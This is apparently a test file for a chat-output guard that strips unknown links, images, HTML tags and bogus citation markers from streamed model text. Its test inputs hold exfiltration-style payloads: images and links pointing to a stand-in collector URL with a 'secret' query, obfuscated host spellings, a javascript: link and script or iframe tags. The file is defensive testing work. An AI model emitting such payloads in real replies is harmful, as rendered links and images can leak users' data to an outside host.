import { createGuard } from '../../../../core/chat/guard/guard.js';
import { knownUrls } from '../../../../core/chat/guard/known-urls.js';
import t from '../../../support/t.js';

const docs = 'https://docs.acme.com/reset';
const evil = 'https://evil.example/collect?q=secret';
const source = `See ${docs}, [the wiki](https://wiki.acme.com/a_(b)) and [the terms](/terms).
  More at www.acme.com/help and https://www.docs.acme.com.`;

function guarded(text: string, pieceLength = text.length): { text: string; sources: string[] } {
  const guard = createGuard({
    isSource: (number) => ['1', '2'].includes(number),
    isKnownUrl: knownUrls([source], []),
  });
  const pieces = [];
  for (let at = 0; at < text.length; at += Math.max(1, pieceLength))
    pieces.push(...guard.push(text.slice(at, at + Math.max(1, pieceLength))));
  pieces.push(...guard.end());
  return {
    text: pieces.filter((piece) => typeof piece === 'string').join(''),
    sources: pieces.flatMap((piece) => (typeof piece === 'string' ? [] : piece.source)),
  };
}

const unchanged = [
  'Plain words, with commas; and a price of $5 < $6 > $4!',
  'A list:\n\n- one\n- two\n\n1. first\n2. second',
  '**bold** _italic_ ~~struck~~ and a | table | row |',
  `A link: [the page](${docs}), [wiki](https://wiki.acme.com/a_(b)), [terms](/terms).`,
  `Bare: ${docs}, (${docs}) and <${docs}>.`,
  `<a href="${docs}">the page</a>`,
  `[page]: ${docs}\n\nRead the [page].`,
  'Code: `items[9]` and `curl https://api.example.com/x`.',
  '```sh\ncurl https://api.example.com/[9] ![x](y)\n```\nafter',
  '~~~\n<img src="https://evil.example/x">\n~~~\n',
  '1. Run\n\n   ```sh\n   curl https://api.example.com\n   ```\n\n2. Look',
  'An open [bracket, a closed] one, f(x)[y] and \\[escaped\\].',
  'a <b>bold</b> line<br>and vector<int>',
  '中文，没有空格。请访问https://docs.acme.com/reset 谢谢',
  'ftp, http and https are words; so is htt',
  'emoji 👩‍👩‍👧 and é and 𝒳',
  'AT&T, a & b, &lt;b&gt; &amp;#119; &#169; &nbsp;&#x20AC; &#; &period 1\\. and www\\',
  'Bare hosts: www.acme.com/help, (www.acme.com/help). www.docs.acme.com too.',
  'awww. So www. is a prefix, and www alone; wow.',
  `${'['.repeat(5000)}x${']'.repeat(5000)}`,
];

for (const text of unchanged)
  t.test(`stays as it is: ${JSON.stringify(text).slice(0, 60)}`, async (t) =>
    t.equal(guarded(text).text, text),
  );

const changed: [what: string, from: string, to: string][] = [
  ['a marker of a source that was sent stays', 'True [1].', 'True [1].'],
  ['an unknown marker goes with the blank before it', 'True [9]. More [0][3] [1].', 'True. More [1].'],
  ['a marker behind an exclamation mark is one', 'Great![1] Not![9]', 'Great![1] Not!'],
  ['a marker that is the words of a link is none', `[1](${docs}) [9](${evil})`, `[1](${docs}) 9`],
  [
    'a marker is known behind text that only looks like a link',
    'as [9](see below) and [1](figure two)',
    'as(see below) and [1] (figure two)',
  ],
  ['an unknown link keeps its words', `Click [here **now**](${evil}).`, 'Click here **now**.'],
  ['with a title, in angle brackets, over two lines', `[a](<${evil}> "t") [b](${evil}\n"t")`, 'a b'],
  [
    'a URL that only begins like a known one is unknown',
    `[a](${docs}?q=1) ${docs}/x`,
    'a docs.acme.com/reset/x',
  ],
  ['an image keeps its other text, wherever it leads', `![chart](${evil}) ![known](${docs})`, 'chart known'],
  ['a link around an image', `[![logo](${evil})](${evil})`, 'logo'],
  ['an image in a known link', `[![logo](${evil})](${docs})`, `[logo](${docs})`],
  ['a script is no link, even if a source has it', '[a](javascript:alert(1))', 'a'],
  ['a reference loses its URL', `Read [this][x].\n\n[x]: ${evil}\n`, 'Read [this][x].\n\n[x] \n'],
  ['a numbered reference is a marker', `See [1].\n\n[1]: ${docs}`, 'See [1].\n\n[1] '],
  ['an autolink becomes a word', `<${evil}>`, 'evil.example/collect?q=secret'],
  [
    'a bare URL loses its scheme',
    `at ${evil}, HTTP://Evil.example.`,
    'at evil.example/collect?q=secret, Evil.example.',
  ],
  [
    'a bare host that begins with www. loses that',
    'at www.evil.example/?q=secret, *WWW.Evil.example*, www.www.evil.example. (www.acme.com/help/more)',
    'at evil.example/?q=secret, *Evil.example*, evil.example. (acme.com/help/more)',
  ],
  [
    'also when the scheme goes before it',
    'http://www.evil.example/a <https://www.evil.example/b> [www.evil.example/c](https://www.evil.example/c)',
    'evil.example/a evil.example/b evil.example/c',
  ],
  [
    'and when it is put together',
    `w[ww.evil.example](${evil}) www.[evil.example](${evil})`,
    'www .evil.example evil.example',
  ],
  [
    'and when it is written with escapes, which some readers take away first',
    'www\\.evil.example https\\://evil.example http:\\//evil.example ftp:/\\/evil.example',
    'www \\.evil.example https \\://evil.example http: \\//evil.example ftp:/ \\/evil.example',
  ],
  [
    'or with character references',
    '&#119;ww.evil.example w&#x57;w.evil.example www&period;evil.example https&colon;//evil.example http:&#47;&sol;evil.example',
    'evil.example wWw .evil.example www .evil.example https:/ /evil.example http:/ /evil.example',
  ],
  [
    'brackets that are nested more deeply make no link',
    `${'['.repeat(20)}x](${evil})${']'.repeat(19)}(${evil}) [x](${'('.repeat(9)}${')'.repeat(9)})`,
    `${'['.repeat(19)}x${']'.repeat(19)} (evil.example/collect?q=secret) [x] (${'('.repeat(9)}${')'.repeat(9)})`,
  ],
  ['a URL in a URL, too', `${evil}&r=https://b.example`, 'evil.example/collect?q=secret&r=b.example'],
  ['an HTML link keeps its words', `<a class="x" href='${evil}'>here</a>`, 'here</a>'],
  ['an HTML image keeps its other text', `<img alt="a chart" src="${evil}"/>`, 'a chart'],
  [
    'any other tag with attributes is no tag any more',
    `<iframe src="/x"></iframe>`,
    `< iframe src="/x">< /iframe>`,
  ],
  [
    'nor is one that changes how the rest is read',
    '<script>x</script><style>',
    '< script>x< /script>< style>',
  ],
  ['nor a comment', '<!-- [a](b) -->', '< !-- a -->'],
  [
    'what is left of one construct makes no other',
    `![]($)[x](${evil}) <[](x)img src=//e> ht[](x)tps://e`,
    'x < img src=//e> https:/ /e',
  ],
  [
    'what comes right behind a known URL is no part of it',
    `${docs}[1] ${docs}<${evil}> ${docs}。`,
    `${docs} [1] ${docs} evil.example/collect?q=secret ${docs} 。`,
  ],
  ['a number put together is no marker', `[[9](${evil})]`, '[9 ]'],
  ['a span of code that is not closed is none', `a \` b ![x](${evil})`, 'a ` b x'],
  ['nor is one that a table would part', `| \` | ![x](${evil}) \` |`, '| ` | x ` |'],
  ['nor one behind a lonely backtick of the paragraph', `a \` b\nc \`![x](${evil})\``, 'a ` b\nc `x`'],
  ['a fence in a list ends with the list', `- a\n  \`\`\`\n![x](${evil})\n`, '- a\n  ```\nx\n'],
  [
    'behind a block of HTML nothing is code for certain',
    `<div>\n\`\`\`\n</div>\n\n![x](${evil})`,
    '<div>\n```\n</div>\n\nx',
  ],
  ['line ends are one, controls go', 'a\r\nb\rc\u0000\u001b[0md', 'a\nb\nc[0md'],
  ['half a character is none', 'a\ud800b', 'a\ufffdb'],
];

for (const [what, from, to] of changed)
  t.test(what, async (t) => {
    t.equal(guarded(from).text, to);
    for (const length of [1, 2, 3, 7]) t.equal(guarded(from, length).text, to, `in pieces of ${length}`);
  });

t.test('a source precedes each text that cites it, with the supported claim', async (t) => {
  const guard = createGuard({ isSource: () => true, isKnownUrl: () => false });
  const pieces = [...guard.push('Hold the button [1][2]. It beeps [1]'), ...guard.end()];
  t.same(pieces, [
    'Hold the button ',
    { source: '1', claim: 'Hold the button' },
    '[1]',
    { source: '2', claim: 'Hold the button' },
    '[2]. It beeps',
    ' ',
    { source: '1', claim: '. It beeps' },
    '[1]',
  ]);
});

t.test('plain words are shown at once; a construct is held until it ends or becomes too long', async (t) => {
  const guard = createGuard({ isSource: () => true, isKnownUrl: () => true });
  const text = (input: string) => guard.push(input).join('');
  t.equal(text('Hold the po'), 'Hold the po');
  t.equal(text('wer button'), 'wer button');
  t.equal(text(' and ['), ' and');
  t.equal(text('see'), '');
  t.equal(text('](https://a.example) now'), ' [see](https://a.example) now');
  t.equal(text(' [').length, 0);
  const held = text('x '.repeat(1000));
  t.equal(held, '', 'up to 2 KiB');
  t.match(text('x '.repeat(200)), /^ \[x x/);
});

t.test('the lookahead is measured in bytes, also in wide scripts', async (t) => {
  const guard = createGuard({ isSource: () => true, isKnownUrl: () => true });
  t.equal(guard.push(`[${'字'.repeat(600)}`).length, 0);
  t.not(guard.push('字'.repeat(100)).length, 0);
});

t.test('a host too long to resolve is compared literally', async (t) => {
  const host = `${'a'.repeat(250)}.com`;
  const isKnown = knownUrls([`http://${host}/x and http://short.com/x`], []);
  t.ok(isKnown(`http://${host}/x`));
  t.notOk(isKnown(`HTTP://${host}/x`), 'the time to parse a host grows with its square');
  t.ok(isKnown('HTTP://Short.com/x'));
});
